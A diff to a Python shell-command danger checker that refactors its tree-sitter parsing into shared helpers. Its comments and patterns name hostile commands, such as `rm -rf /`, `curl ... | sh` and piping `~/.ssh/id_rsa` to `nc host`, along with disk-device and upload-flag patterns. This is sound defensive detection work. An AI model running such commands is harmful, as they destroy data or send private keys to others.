@@ -6,13 +6,14 @@ Nothing is run and nothing expanded: `echo rm -rf /` is harmless here, `bash -c 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator, Sequence
-from functools import cache
+from collections.abc import Sequence
 from itertools import pairwise
 from typing import TYPE_CHECKING
 
+from hive_mind.bash_syntax import parse, walk
+
 if TYPE_CHECKING:
-    from tree_sitter import Node, Parser
+    from tree_sitter import Node
 
 DEEPEST = 4
 """A script inside a script inside a script: what hides deeper than this is held back as it is."""
@@ -31,7 +32,6 @@ _VALUED = {
 """Wrappers' one-letter options that take the next word."""
 _UPLOADS = ("@", "-d", "-T", "-F", "--data", "--upload-file", "--post-file", "--form", "$(", "`")
 _DISK = re.compile(r"/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|mapper/|md\d|dm-\d)")
-_NOT_ASCII = re.compile(r"[^\x00-\x7f]")
 _ROOTS = re.compile(
     r"(?:/|~|\$HOME|\$\{HOME\}|/(?:bin|boot|dev|etc|home|lib|lib64|opt|proc|root|sbin|srv|sys|usr|var|Users|System)"
     r"|/(?:home|Users)/[^/]+|[A-Za-z]:[\\/]?)(?:/?\*?|/\.\*?|/\.)"
@@ -51,9 +51,7 @@ def danger(command: str) -> str | None:
 def _script(text: str, depth: int) -> str | None:
     if depth > DEEPEST:
         return "hides a command too deep inside others to be looked at"
-    # tree-sitter-bash 0.25.1 looks characters up in C's table of 256, and crashes the process at `{` before U+E7112.
-    root = _parser().parse(_NOT_ASCII.sub("x", text).encode()).root_node
-    for node in _walk(root):
+    for node in walk(parse(text)):
         if found := _look_at(node, text, depth):
             return found
     return None
@@ -136,7 +134,7 @@ def _sends_credentials(name: str, arguments: Sequence[str]) -> bool:
 
 def _pipeline(node: Node) -> str | None:
     """`curl ... | sh` runs what nobody has read; `cat ~/.ssh/id_rsa | nc host` sends it away."""
-    stages = [_unwrapped(_words(command)) for command in _walk(node) if command.type == "command"]
+    stages = [_unwrapped(_words(command)) for command in walk(node) if command.type == "command"]
     names = [words[0].rpartition("/")[2] if words else "" for words in stages]
     for position, name in enumerate(names):
         before = names[:position]
@@ -172,7 +170,7 @@ def _fork_bomb(node: Node) -> str | None:
     if name is None or body is None:
         return None
     own = _plain(name)
-    called = [_words(inner) for inner in _walk(body) if inner.type == "command"]
+    called = [_words(inner) for inner in walk(body) if inner.type == "command"]
     return "starts itself without end" if sum(words[:1] == [own] for words in called) > 1 else None
 
 
@@ -213,19 +211,3 @@ def _plain(node: Node) -> str:
     if node.type in ("string", "raw_string") and len(text) >= 2:
         return text[1:-1].replace('\\"', '"') if node.type == "string" else text[1:-1]
     return text.replace("\\", "") if node.type == "word" else text
-
-
-def _walk(node: Node) -> Iterator[Node]:
-    ahead = [node]
-    while ahead:
-        here = ahead.pop()
-        yield here
-        ahead += reversed(here.children)
-
-
-@cache
-def _parser() -> Parser:
-    import tree_sitter_bash
-    from tree_sitter import Language, Parser
-
-    return Parser(Language(tree_sitter_bash.language()))
